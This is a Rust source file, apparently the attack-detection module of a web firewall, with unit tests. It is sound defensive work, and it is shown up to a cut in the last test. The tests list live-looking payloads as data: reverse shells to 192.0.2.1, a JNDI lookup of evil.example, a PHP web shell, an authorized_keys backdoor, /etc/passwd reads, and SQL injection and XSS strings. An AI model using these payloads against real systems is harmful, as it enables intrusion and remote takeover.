//! The attack filter: finds SQL injection, XSS, path traversal, remote inclusion and SSRF,
//! command injection, PHP and Java (JNDI) injection, template injection and NoSQL operator
//! injection in the path, query, headers, cookies and form or JSON bodies of a request.
//!
//! Each value is decoded first ([`decode`]), then read in the canonical forms of the languages
//! it attacks ([`fold`]), then checked by libinjection's tokenizers ([`structural`]) and by
//! pattern rules compiled into one regex set per form ([`rules`]). Findings add up to an
//! anomaly score; a route blocks when the score reaches its threshold. Where things are
//! looked for lives in [`inputs`]; per-route modes, thresholds and exclusions in [`policy`].

mod clean_cache;
pub mod decode;
pub mod fold;
pub mod form_part;
pub mod header_injection;
mod inert_markup;
pub mod inputs;
mod internal_host;
mod ldap;
mod password_field;
mod pickle;
pub mod policy;
mod quoted_code;
pub mod rules;
pub mod scanner;
mod secret_file;
mod split_command;
pub mod structural;
mod text_tags;

use std::borrow::Cow;
use std::fmt;
use std::net::IpAddr;
use std::sync::OnceLock;

use memchr::memmem;

use self::clean_cache::CleanCache;
use self::rules::{Form, Forms, PatternHit, PatternRules};

pub use self::policy::{FilterMode, FilterPolicy};

/// The kinds of attack the filter knows; blocks are counted and excluded by family.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Family {
    Sqli,
    Xss,
    Lfi,
    Rfi,
    Rce,
    Php,
    Java,
    Ssti,
    Nosql,
    Crlf,
    /// A vulnerability scanner named in `User-Agent` ([`scanner`]).
    Scanner,
}

impl Family {
    pub const ALL: [Family; 11] = [
        Family::Sqli,
        Family::Xss,
        Family::Lfi,
        Family::Rfi,
        Family::Rce,
        Family::Php,
        Family::Java,
        Family::Ssti,
        Family::Nosql,
        Family::Crlf,
        Family::Scanner,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Family::Sqli => "sqli",
            Family::Xss => "xss",
            Family::Lfi => "lfi",
            Family::Rfi => "rfi",
            Family::Rce => "rce",
            Family::Php => "php",
            Family::Java => "java",
            Family::Ssti => "ssti",
            Family::Nosql => "nosql",
            Family::Crlf => "crlf",
            Family::Scanner => "scanner",
        }
    }

    pub fn parse(name: &str) -> Option<Family> {
        Family::ALL.into_iter().find(|f| f.as_str() == name)
    }
}

/// Where in the request a value was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Location {
    Path,
    Query,
    Header,
    Cookie,
    Body,
}

impl Location {
    pub fn as_str(self) -> &'static str {
        match self {
            Location::Path => "path",
            Location::Query => "query",
            Location::Header => "header",
            Location::Cookie => "cookie",
            Location::Body => "body",
        }
    }

    pub fn parse(name: &str) -> Option<Location> {
        [
            Location::Path,
            Location::Query,
            Location::Header,
            Location::Cookie,
            Location::Body,
        ]
        .into_iter()
        .find(|l| l.as_str() == name)
    }
}

/// One rule that matched one value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub rule: &'static str,
    pub family: Family,
    pub score: u32,
    pub location: Location,
    /// Parameter, header or cookie name; the JSON path for JSON bodies.
    pub name: String,
    /// The matched text, shortened and with long digit runs masked: enough to see the
    /// attack in a log, never a whole value that could hold personal data.
    pub fragment: String,
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} ({}) in {} `{}`: {:?}",
            self.rule,
            self.family.as_str(),
            self.location.as_str(),
            self.name,
            self.fragment
        )
    }
}

/// The filter's decision material for one request.
#[derive(Debug, Default)]
pub struct Verdict {
    pub score: u32,
    pub findings: Vec<Finding>,
    /// The client the request came from, when known: values this client sent before and the
    /// filter found clean are not inspected again ([`clean_cache`]).
    client: Option<IpAddr>,
}

impl Verdict {
    /// An empty verdict for a request from `client`.
    pub fn for_client(client: IpAddr) -> Self {
        Self {
            client: Some(client),
            ..Self::default()
        }
    }

    /// The finding with the highest score: the one a log line or an error names.
    pub fn strongest(&self) -> Option<&Finding> {
        self.findings.iter().max_by_key(|f| f.score)
    }
}

/// Ids of findings made by structural checks rather than pattern rules.
pub const STRUCTURAL_RULES: [&str; 19] = [
    "sqli-libinjection",
    "sqli-quote-breakout-end",
    "xss-libinjection",
    "nosql-operator-key",
    "node-prototype-pollution",
    "lfi-hidden-path",
    "lfi-system-path",
    "lfi-xml-external-entity",
    "lfi-null-byte",
    "rce-server-script-upload",
    "crlf-header-injection",
    "crlf-line-break",
    "nosql-ldap-filter",
    "rfi-internal-host",
    "rfi-path-parameter",
    "scanner-user-agent",
    "rce-split-command",
    "lfi-secret-file",
    "rce-pickle-global",
];

/// The compiled detectors; built once at start and shared by every worker.
pub struct AttackFilter {
    patterns: PatternRules,
    clean: CleanCache,
}

/// Longest value inspected; longer values are inspected in their first this many bytes
/// (bodies beyond the route's `max_body` are refused before this point).
const MAX_VALUE_BYTES: usize = 256 * 1024;

static JNDI_OPEN: Needle = Needle::new("${");
static SCRIPT: Needle = Needle::new("script");

impl AttackFilter {
    pub fn new() -> Self {
        Self {
            patterns: PatternRules::compile(),
            clean: CleanCache::new(),
        }
    }

    /// Checks one value (and its base64 payload, if it is one), adding findings to `verdict`.
    pub fn inspect(
        &self,
        policy: &FilterPolicy,
        location: Location,
        name: &str,
        raw: &str,
        verdict: &mut Verdict,
    ) {
        if is_inert(raw) {
            return;
        }
        let raw = truncate(raw, MAX_VALUE_BYTES);
        let families =
            password_field::families_for(policy.families_for(location, name), location, name, raw);
        if families.is_empty() {
            return;
        }
        let key = verdict
            .client
            .and_then(|client| self.clean.key(client, families, raw));
        if key.as_ref().is_some_and(|key| self.clean.contains(key)) {
            return;
        }
        let mut found = Verdict::default();
        self.inspect_value(families, location, name, raw, &mut found);
        if found.findings.is_empty() {
            if let Some(key) = key {
                self.clean.insert(key);
            }
            return;
        }
        for finding in found.findings {
            verdict.add(finding);
        }
    }

    /// Checks one value (as IIS reads it too, and its base64 payload, if it is one), adding
    /// findings to `verdict`.
    fn inspect_value(
        &self,
        families: FamilySet,
        location: Location,
        name: &str,
        raw: &str,
        verdict: &mut Verdict,
    ) {
        if families.contains(Family::Lfi) && decode::has_null_byte(raw) {
            verdict.add(Finding {
                rule: "lfi-null-byte",
                family: Family::Lfi,
                score: 5,
                location,
                name: name.to_owned(),
                fragment: mask_fragment(raw),
            });
        }
        self.inspect_text(&families, location, name, raw, verdict);
        if let Some(iis) = decode::iis_reading(raw) {
            self.inspect_text(&families, location, name, &iis, verdict);
        }
        let Some(bytes) = decode::base64_bytes(raw) else {
            return;
        };
        if families.contains(Family::Rce)
            && let Some(global) = pickle::dangerous_global(&bytes)
        {
            verdict.add(Finding {
                rule: "rce-pickle-global",
                family: Family::Rce,
                score: 5,
                location,
                name: name.to_owned(),
                fragment: mask_fragment(&global),
            });
        }
        if let Some(payload) = decode::printable_text(bytes) {
            self.inspect_text(&families, location, name, &payload, verdict);
        }
    }

    fn inspect_text(
        &self,
        families: &FamilySet,
        location: Location,
        name: &str,
        raw: &str,
        verdict: &mut Verdict,
    ) {
        let decoded = decode::decode(raw);
        let lower = lowercase(&decoded);
        let mut hits: Vec<PatternHit> = Vec::new();
        let enabled = |family: Family| families.contains(family);
        let mut record = |hits: &mut Vec<PatternHit>, text: &str| {
            for hit in hits.drain(..) {
                verdict.add(Finding {
                    rule: hit.rule.id,
                    family: hit.rule.family,
                    score: hit.rule.score,
                    location,
                    name: name.to_owned(),
                    fragment: mask_fragment(&text[hit.start..hit.end]),
                });
            }
        };

        // The SQL and shell forms are read in the same pass as the plain text when their
        // folds changed nothing, which is the common case.
        let mut same_text = Forms::PLAIN;
        let sql = families.contains(Family::Sqli).then(|| fold::sql(&lower));
        match &sql {
            Some(Cow::Borrowed(_)) => same_text = same_text.with(Form::Sql),
            Some(Cow::Owned(sql)) => {
                self.patterns
                    .scan(Forms::of(Form::Sql), sql, enabled, &mut hits);
                record(&mut hits, sql);
            }
            None => {}
        }
        if let Some(uncommented) = families
            .contains(Family::Sqli)
            .then(|| fold::line_comments_as_spaces(&lower))
            .flatten()
        {
            let uncommented = fold::sql(&uncommented);
            self.patterns
                .scan(Forms::of(Form::Sql), &uncommented, enabled, &mut hits);
            record(&mut hits, &uncommented);
        }
        let shell = families.contains(Family::Rce).then(|| fold::shell(&lower));
        let mut split_command = None;
        match &shell {
            Some(Cow::Borrowed(_)) => same_text = same_text.with(Form::Shell),
            Some(Cow::Owned(shell)) => {
                self.patterns
                    .scan(Forms::of(Form::Shell), shell, enabled, &mut hits);
                record(&mut hits, shell);
                // Only a text the fold changed can hold a name it joined.
                split_command = split_command::split_command_name(&lower);
            }
            None => {}
        }
        // Markup that cannot run (JSX's handlers, a doctype) is made inert for the XSS checks,
        // in a value no decoding layer changed.
        let without_inert = families
            .contains(Family::Xss)
            .then(|| inert_markup::without_inert_markup(&decoded))
            .flatten()
            .filter(|_| *decoded == *raw);
        let xss_lower = without_inert.as_deref().map(lowercase);
        match &xss_lower {
            None => {
                self.patterns.scan(same_text, &lower, enabled, &mut hits);
                record(&mut hits, &lower);
            }
            Some(xss_lower) => {
                let not_xss = |family: Family| family != Family::Xss && enabled(family);
                self.patterns.scan(same_text, &lower, not_xss, &mut hits);
                record(&mut hits, &lower);
                let xss = |family: Family| family == Family::Xss && enabled(family);
                self.patterns.scan(same_text, xss_lower, xss, &mut hits);
                record(&mut hits, xss_lower);
            }
        }
        let xss_lower = xss_lower.as_deref().unwrap_or(&lower);
        let xss_decoded = without_inert.as_deref().unwrap_or(&decoded);

        if families.contains(Family::Xss) && mentions_script(xss_lower) {
            let markup: String = xss_lower
                .chars()
                .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
                .collect();
            self.patterns
                .scan(Forms::of(Form::Markup), &markup, enabled, &mut hits);
            record(&mut hits, &markup);
        }
        if families.contains(Family::Java) && JNDI_OPEN.is_in(&lower) {
            let lookup = fold::log4j(&lower);
            self.patterns
                .scan(Forms::of(Form::Lookup), &lookup, enabled, &mut hits);
            record(&mut hits, &lookup);
        }
        // The structural checks: each finding is conclusive alone.
        let mut conclude = |rule: &'static str, family: Family, fragment: String| {
            verdict.add(Finding {
                rule,
                family,
                score: 5,
                location,
                name: name.to_owned(),
                fragment,
            });
        };
        if families.contains(Family::Sqli) {
            if let Some(fingerprint) = structural::sqli(&decoded) {
                let fragment = format!("fingerprint {fingerprint}");
                conclude("sqli-libinjection", Family::Sqli, fragment);
            }
            if let Some(breakout) = structural::quote_breakout_to_end(&lower) {
                conclude(
                    "sqli-quote-breakout-end",
                    Family::Sqli,
                    mask_fragment(breakout),
                );
            }
        }
        if families.contains(Family::Xss) && structural::xss(xss_decoded) {
            conclude("xss-libinjection", Family::Xss, mask_fragment(&decoded));
        }
        if families.contains(Family::Lfi)
            && let Some(path) = secret_file::secret_file_path(&lower)
        {
            conclude("lfi-secret-file", Family::Lfi, mask_fragment(path));
        }
        if families.contains(Family::Rce)
            && let Some(global) = pickle::text_global(decoded.as_bytes())
        {
            conclude("rce-pickle-global", Family::Rce, mask_fragment(&global));
        }
        if let Some(word) = split_command {
            conclude("rce-split-command", Family::Rce, mask_fragment(word));
        }
        if families.contains(Family::Rfi)
            && let Some(host) = internal_host::obfuscated_internal_host(&lower)
        {
            conclude("rfi-internal-host", Family::Rfi, mask_fragment(host));
        }
        if families.contains(Family::Nosql)
            && let Some(breakout) = ldap::filter_injection(&lower)
        {
            conclude("nosql-ldap-filter", Family::Nosql, mask_fragment(breakout));
        }
        if families.contains(Family::Crlf) {
            if location == Location::Path && header_injection::has_line_break(&decoded) {
                conclude("crlf-line-break", Family::Crlf, mask_fragment(&decoded));
            }
            let in_head = location != Location::Body;
            if let Some(injected) = header_injection::header_injection(&lower, in_head) {
                conclude(
                    "crlf-header-injection",
                    Family::Crlf,
                    mask_fragment(injected),
                );
            }
        }
    }

    /// Checks a parameter or JSON key name for operator injection (`user[$ne]`, `$where`).
    pub fn inspect_key(
        &self,
        policy: &FilterPolicy,
        location: Location,
        path: &str,
        key: &str,
        verdict: &mut Verdict,
    ) {
        if !policy.families_for(location, path).contains(Family::Nosql) {
            return;
        }
        let operator = key.strip_prefix('$').is_some_and(is_query_operator);
        if operator || key == "__proto__" {
            verdict.add(Finding {
                rule: if operator {
                    "nosql-operator-key"
                } else {
                    "node-prototype-pollution"
                },
                family: Family::Nosql,
                score: 5,
                location,
                name: path.to_owned(),
                fragment: mask_fragment(key),
            });
        }
    }
}

/// A conclusive finding from a structural check (not a value rule): a hidden file in the path,
/// an external entity in a DTD. Added only where the policy inspects `family`.
pub fn add_structural_finding(
    policy: &FilterPolicy,
    verdict: &mut Verdict,
    (rule, family): (&'static str, Family),
    location: Location,
    name: &str,
    matched: &str,
) {
    if policy.families_for(location, name).contains(family) {
        verdict.add(Finding {
            rule,
            family,
            score: 5,
            location,
            name: name.to_owned(),
            fragment: mask_fragment(matched),
        });
    }
}

impl Default for AttackFilter {
    fn default() -> Self {
        Self::new()
    }
}

impl Verdict {
    /// Adds a finding; a rule counts once per value location and name.
    pub fn add(&mut self, finding: Finding) {
        let repeated = self.findings.iter().any(|f| {
            f.rule == finding.rule && f.location == finding.location && f.name == finding.name
        });
        if !repeated {
            self.score += finding.score;
            self.findings.push(finding);
        }
    }
}

/// A set of families, as a bit set: the families a policy inspects at one place.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FamilySet(u16);

impl FamilySet {
    pub const ALL: FamilySet = FamilySet((1 << Family::ALL.len()) - 1);
    pub const NONE: FamilySet = FamilySet(0);

    pub fn contains(self, family: Family) -> bool {
        self.0 & (1 << family as u16) != 0
    }

    pub fn without(self, family: Family) -> FamilySet {
        FamilySet(self.0 & !(1 << family as u16))
    }

    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    pub fn bits(self) -> u16 {
        self.0
    }
}

/// MongoDB query and update operators that only make sense as injected keys.
fn is_query_operator(name: &str) -> bool {
    matches!(
        name,
        "ne" | "eq"
            | "gt"
            | "gte"
            | "lt"
            | "lte"
            | "in"
            | "nin"
            | "regex"
            | "where"
            | "exists"
            | "or"
            | "and"
            | "not"
            | "nor"
            | "expr"
            | "elemMatch"
            | "elemmatch"
            | "type"
            | "size"
            | "all"
            | "function"
            | "accumulator"
            | "jsonSchema"
            | "text"
            | "mod"
            // Aggregation stages, for apps that hand a filter to `aggregate()`.
            | "lookup"
            | "unionWith"
            | "merge"
            | "out"
    )
}

/// `text` lowercased, without a copy when it has no uppercase letter.
fn lowercase(text: &str) -> Cow<'_, str> {
    if !text.is_ascii() {
        Cow::Owned(lowercase_unicode(text))
    } else if text.bytes().any(|b| b.is_ascii_uppercase()) {
        Cow::Owned(text.to_ascii_lowercase())
    } else {
        Cow::Borrowed(text)
    }
}

/// `text` lowercased character by character (`Σ` is `σ` everywhere, with none of
/// `str::to_lowercase`'s final sigma, which no rule reads). Runs of ASCII, most of any text
/// that is not all ASCII, are lowercased whole: `str::to_lowercase` reads every character
/// after the first that is not ASCII through the Unicode tables.
fn lowercase_unicode(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while !rest.is_empty() {
        let ascii = rest
            .bytes()
            .position(|b| !b.is_ascii())
            .unwrap_or(rest.len());
        let start = out.len();
        out.push_str(&rest[..ascii]);
        out[start..].make_ascii_lowercase();
        rest = &rest[ascii..];
        let other = rest
            .char_indices()
            .find(|(_, c)| c.is_ascii())
            .map_or(rest.len(), |(at, _)| at);
        out.extend(rest[..other].chars().flat_map(char::to_lowercase));
        rest = &rest[other..];
    }
    out
}

/// A substring the filter looks for in every value, found with `memchr`'s vector search (a few
/// instructions per 32 bytes, where `str::find` reads a byte or more at a time). The searcher
/// is built once, on first use: building one for each search cost more than the search itself
/// on a chat message (1,000 instructions a request of the chat turn).
pub(crate) struct Needle {
    text: &'static str,
    finder: OnceLock<memmem::Finder<'static>>,
}

impl Needle {
    pub(crate) const fn new(text: &'static str) -> Self {
        Self {
            text,
            finder: OnceLock::new(),
        }
    }

    /// Where the needle first is in `text`.
    pub(crate) fn find(&self, text: &str) -> Option<usize> {
        self.finder().find(text.as_bytes())
    }

    pub(crate) fn is_in(&self, text: &str) -> bool {
        self.find(text).is_some()
    }

    /// Where the needle is in `bytes`, each place that does not overlap an earlier one.
    pub(crate) fn find_iter<'h>(&'h self, bytes: &'h [u8]) -> impl Iterator<Item = usize> + 'h {
        self.finder().find_iter(bytes)
    }

    fn finder(&self) -> &memmem::Finder<'static> {
        self.finder.get_or_init(|| memmem::Finder::new(self.text))
    }
}

/// True if `text` holds any of `bytes` (ASCII), searched for three at a time with `memchr`'s
/// vector search: a few passes of a handful of instructions per 16 or 32 bytes cost less than
/// one pass that looks every byte up in a table.
pub(crate) fn has_any_byte(text: &str, bytes: &[u8]) -> bool {
    let text = text.as_bytes();
    bytes.chunks(3).any(|set| match *set {
        [a] => memchr::memchr(a, text).is_some(),
        [a, b] => memchr::memchr2(a, b, text).is_some(),
        [a, b, c, ..] => memchr::memchr3(a, b, c, text).is_some(),
        [] => false,
    })
}

/// `script` in `text`, also when tabs and line breaks split it: browsers drop them inside a URL
/// scheme, so `j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t:` is `javascript:`.
fn mentions_script(text: &str) -> bool {
    if SCRIPT.is_in(text) {
        return true;
    }
    let bytes = text.as_bytes();
    has_any_byte(text, b"\t\r\n")
        && memchr::memchr_iter(b's', bytes).any(|at| {
            bytes[at..]
                .iter()
                .filter(|b| !matches!(b, b'\t' | b'\r' | b'\n'))
                .take(6)
                .eq(b"script")
        })
}

/// Values made only of letters, digits, `_` and `-` cannot carry any of the attacks here,
/// base64 payloads aside: a value that mixes cases may be one (`YWRtaW4nIC0t`), and is read.
fn is_inert(raw: &str) -> bool {
    raw.len() < 16
        && raw.bytes().all(|b| INERT_BYTES[usize::from(b)])
        && !decode::may_be_base64(raw)
}

/// The bytes of [`is_inert`] values, as a table: one load per byte for the many short values
/// of every JSON body (roles, model names, ids).
static INERT_BYTES: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        let b = byte as u8;
        table[byte] = b.is_ascii_alphanumeric() || b == b'_' || b == b'-';
        byte += 1;
    }
    table
};

fn truncate(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// At most 48 characters of the match, with every run of 4+ digits masked (card and phone
/// numbers, ids).
pub fn mask_fragment(text: &str) -> String {
    let short: String = text.chars().take(48).collect();
    let mut out = String::with_capacity(short.len());
    let mut digits = String::new();
    let flush = |digits: &mut String, out: &mut String| {
        if digits.len() >= 4 {
            out.push_str(&"#".repeat(digits.len()));
        } else {
            out.push_str(digits);
        }
        digits.clear();
    };
    for c in short.chars() {
        if c.is_ascii_digit() {
            digits.push(c);
        } else {
            flush(&mut digits, &mut out);
            out.push(c);
        }
    }
    flush(&mut digits, &mut out);
    if text.chars().count() > 48 {
        out.push('…');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::policy::Exclusion;
    use super::*;

    #[test]
    fn unicode_text_is_lowercased_character_by_character() {
        let texts = include_str!("../../tests/corpus/naughty-strings/blns.txt")
            .lines()
            .chain(include_str!("../../tests/corpus/prompts/ordinary.jsonl").lines())
            .chain([
                "ÀB ÇD",
                "İSTANBUL",
                "ΣΊΣΥΦΟΣ ΣΑΣ",
                "Straße DŽ ǅ",
                "ＡＢＣ abc",
                "é",
            ]);
        let mut unicode = 0;
        for text in texts.filter(|text| !text.is_ascii()) {
            let expected: String = text.chars().flat_map(char::to_lowercase).collect();
            assert_eq!(lowercase(text), expected, "{text:?}");
            unicode += 1;
        }
        assert!(unicode > 100, "only {unicode} texts were not ASCII");
    }

    #[test]
    fn has_any_byte_finds_each_byte_of_sets_of_every_size() {
        let set = b"'\"\\^${}[\t\r";
        let text = "plain words, long enough to span several vector blocks of the search";
        for size in 1..=set.len() {
            let wanted = &set[..size];
            assert!(!has_any_byte(text, wanted), "{size}");
            for &byte in wanted {
                for at in [0, 17, text.len()] {
                    let mut with = text.to_owned();
                    with.insert(at, char::from(byte));
                    assert!(has_any_byte(&with, wanted), "{size} {byte} at {at}");
                }
            }
        }
        assert!(!has_any_byte("", b"<>"));
    }

    fn verdict(filter: &AttackFilter, value: &str) -> Verdict {
        let mut verdict = Verdict::default();
        filter.inspect(
            &FilterPolicy::default(),
            Location::Query,
            "q",
            value,
            &mut verdict,
        );
        verdict
    }

    fn findings(value: &str) -> Vec<&'static str> {
        let verdict = verdict(&AttackFilter::new(), value);
        verdict.findings.iter().map(|f| f.rule).collect()
    }

    #[test]
    fn inert_values_are_skipped() {
        assert!(is_inert("hello-world_42"));
        assert!(!is_inert("a b"));
        assert!(!is_inert("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"));
        assert!(is_inert("gpt-4o-mini"));
        assert!(!is_inert("YWRtaW4nIC0t"));
    }

    #[test]
    fn fragments_are_short_and_mask_numbers() {
        assert_eq!(
            mask_fragment("card 4111111111111111"),
            "card ################"
        );
        assert_eq!(mask_fragment("or 1=1"), "or 1=1");
        assert!(mask_fragment(&"x".repeat(100)).ends_with('…'));
    }

    #[test]
    fn base64_wrapped_attacks_are_found() {
        // `<script>alert(1)</script>`
        assert!(findings("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==").contains(&"xss-script-tag"));
        // Short ones: `admin' --`, `1 AND 5=5`, `{{7*'7'}}`.
        assert!(findings("YWRtaW4nIC0t").contains(&"sqli-quote-comment"));
        assert!(!findings("MSBBTkQgNT01").is_empty());
        assert!(!findings("e3s3Kic3J319").is_empty());
        // Words that mix cases are no payload.
        for word in ["JavaScript", "PostgreSQL", "iPhone15Pro", "McDonalds"] {
            assert!(findings(word).is_empty(), "{word}");
        }
    }

    /// Each value is blocked, by the rule named (among others).
    #[test]
    fn evasions_and_less_common_shells_are_found() {
        let cases = [
            // SQL without a space to fold: the SQL rules still read it.
            ("sleep(5000)", "sqli-time-delay"),
            // A script scheme split by tabs, which browsers drop.
            (
                "j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t:alert(1)",
                "xss-script-uri",
            ),
            // `+` is a space to form decoders and many apps' path handling.
            ("24'union+all+select+1,2,3+from+aa", "sqli-union-select"),
            ("1'+or+'1'='1", "sqli-libinjection"),
            // A delay whose argument is an expression.
            ("select sleep(mod(10,5))", "sqli-time-delay"),
            ("sleep(if(1=1,5,0))", "sqli-time-delay"),
            ("benchmark(5000000,md5(1))", "sqli-time-delay"),
            (
                "(CONVERT(INT,(SELECT CHAR(113)+CHAR(118)+(SELECT (CASE WHEN (6557=6557",
                "sqli-subquery",
            ),
            ("SELECT GROUP_CONCAT(", "sqli-select-function"),
            ("1 union select user()", "sqli-select-function"),
            ("ALTER TABLE `users` ADD `admin` TEXT", "sqli-ddl"),
            ("lo_import('/etc/passwd')", "sqli-file-or-command"),
            ("....//....//....//etc/passwd", "lfi-traversal"),
            ("| dir c:\\", "rce-separator-command"),
            ("& nslookup evil.example &", "rce-separator-command"),
            ("cat /[?]tc/pa[?]swd", "rce-glob-path"),
            ("cat /et*/*wd", "rce-glob-path"),
            ("/bin/c?t /e??/p?ss??", "rce-glob-command"),
            (";/usr/bin/wh?ami", "rce-glob-command"),
            // A command behind one that runs it, and a command that writes a file.
            (";time sh -c whoami", "rce-separator-command"),
            (
                "&& nohup curl -s http://x.example/a",
                "rce-separator-command",
            ),
            (
                ";echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
                "rce-separator-command",
            ),
            // A command's name split by the shell's quoting, alone.
            ("w'h'o'am'i", "rce-split-command"),
            ("wh\\oami", "rce-split-command"),
            ("$SHELL -c \"echo hi\"", "rce-shell-variable"),
            ("() {", "rce-shellshock"),
            (
                "for /f \"tokens=*\" %G in ('dir /b') do echo %G",
                "rce-windows",
            ),
            (
                "IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)",
                "rce-windows-if",
            ),
            ("IF %ERRORLEVEL% GEQ 2 echo test", "rce-windows-if"),
            ("<!--#exec cmd=\"id\" -->", "ssti-ssi-directive"),
            (
                "window[\"alert\"](window[\"document\"][\"cookie\"])",
                "xss-js-global-index",
            ),
            ("document/*foo*/./*bar*/cookie", "xss-js-comment-split"),
            ("(![]+[])[+!+[]]", "xss-jsfuck"),
            ("[].sort.call`${alert}1337`", "xss-js-tagged-call"),
            (
                "Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`",
                "xss-js-tagged-call",
            ),
            ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "xss-utf7"),
            ("<v:vmlframe src=\"foo.com/sup.fml\"/>", "xss-legacy-markup"),
            ("<? php echo \"test\"", "php-open-tag"),
            ("@$__['o'](5)", "php-variable-function"),
            (
                "{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}",
                "node-code-injection",
            ),
            ("https://evil.example/shell.php%00", "lfi-null-byte"),
            ("http://127.1/", "rfi-loopback-url"),
            ("http://66.240.183.75/crash.php", "rfi-remote-script"),
            ("https://[2001:41d0:701:1100::29c8]/gecko.php", "rfi-ip-url"),
            ("https://evil.example/shell.txt?", "rfi-remote-script"),
            (
                "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
                "ssti-template-object",
            ),
            (
                "${class.getResource(\"\").getPath()}",
                "java-expression-language",
            ),
            ("'; return db.users.find(); var x='", "nosql-operator"),
            ("*)(uid=*))(|(uid=*", "nosql-ldap-filter"),
            ("admin)(&)", "nosql-ldap-filter"),
        ];
        let filter = AttackFilter::new();
        for (value, rule) in cases {
            let verdict = verdict(&filter, value);
            assert!(
                verdict.score >= 5 && verdict.findings.iter().any(|f| f.rule == rule),
                "{value}: {verdict:?}"
            );
        }
    }

    /// A screenshot pasted into a rich-text editor is a `data:` URL of a PNG in an `img`; script
    /// in a `data:` URL, or beside the picture, is still found.
    #[test]
    fn pasted_pictures_pass_and_script_beside_them_does_not() {
        let picture = "<p>Here:</p><p><img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\" width=\"640\"></p>";
        assert_eq!(findings(picture), Vec::<&str>::new());
        for attack in [
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\" onerror=\"alert(1)\">",
            "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
            "<object data=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"></object>",
            "<img src=\"data:image/png,x\"><script>alert(1)</script>",
        ] {
            assert!(!findings(attack).is_empty(), "{attack}");
        }
    }

    /// Commands quoted as Markdown code in prose pass; substitutions that stand against what
    /// they are injected into, bare code probes and reverse shells are still blocked.
    #[test]
    fn code_quoted_in_prose_is_text_and_injected_substitutions_are_not() {
        let filter = AttackFilter::new();
        for prose in [
            "How do I run `ls -la` in a folder?",
            "Use `cat file.txt` and `echo $HOME` to check, then `ping -c 4 8.8.8.8`.",
            "My script:\n```bash\n#!/bin/bash\ncurl -X POST https://x.example/v1\nnode server.js\n```\nIt fails.",
            "The caveat: start `docker run -it ubuntu:latest /bin/bash` first, then paste.",
            "Use `mkfifo /tmp/pipe` for a named pipe, and `bash -i` for a login-like shell.",
            "In jQuery, $(document).ready(fn) and $('#price').text(total) run after load.",
            "rows.each((i, tr) => $(tr).find('td').first().text(i));",
        ] {
            let verdict = verdict(&filter, prose);
            assert!(verdict.score < 5, "{prose}: {verdict:?}");
        }
        for attack in [
            "`id`",
            "127.0.0.1`id`",
            "127.0.0.1 `id`",
            "x;`whoami`",
            "\"`id`\"",
            "foo`sleep 5`bar",
            "test `ping -c 10 127.0.0.1`",
            "hello there `nc -e /bin/sh 192.0.2.1 4444` friend",
            "so now `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` please",
            "$(printf 'id')",
            "x$(rev<<<'di')",
            "a$(tr a-z n-za-m <<< 'vq')",
        ] {
            let verdict = verdict(&filter, attack);
            assert!(verdict.score >= 5, "{attack}: {verdict:?}");
        }
    }

    /// A client's clean values are remembered; nothing with a finding is, and a value clean
    /// where a family is excluded is still read where that family is not.
    #[test]
    fn remembered_clean_values_never_hide_an_attack() {
        let filter = AttackFilter::new();
        let client: IpAddr = "192.0.2.1".parse().unwrap();
        let inspect = |policy: &FilterPolicy, name: &str, value: &str| {
            let mut verdict = Verdict::for_client(client);
            filter.inspect(policy, Location::Query, name, value, &mut verdict);
            verdict
        };
        let attack = "1' or '1'='1' -- and some more words to make it worth remembering";
        let prose = "Hello, I'd like to know whether my order from last Tuesday has shipped yet.";
        let policy = FilterPolicy::default();
        for _ in 0..3 {
            assert!(inspect(&policy, "q", attack).score >= 5);
            assert!(inspect(&policy, "q", prose).findings.is_empty());
        }
        let lenient = FilterPolicy {
            exclusions: vec![Exclusion::parse("sqli@query:q").unwrap()],
            ..FilterPolicy::default()
        };
        assert!(inspect(&lenient, "q", attack).findings.is_empty());
        assert!(inspect(&lenient, "q", attack).findings.is_empty());
        assert!(inspect(&policy, "q", attack).score >= 5);
        assert!(inspect(&lenient, "other", attack).score >= 5);
    }

    #[test]
    fn each_family_has_a_detector() {
        let cases = [
            ("1' or '1'='1", Family::Sqli),
            ("<svg onload=alert(1)>", Family::Xss),
            ("../../../../etc/passwd", Family::Lfi),
            ("gopher://127.0.0.1:6379/_INFO", Family::Rfi),
            ("127.0.0.1|id", Family::Rce),
            ("<?php system($_GET['c']); ?>", Family::Php),
            ("${${lower:j}ndi:ldap://evil.example/a}", Family::Java),
            ("{{7*7}}", Family::Ssti),
            ("{\"$ne\": null}", Family::Nosql),
        ];
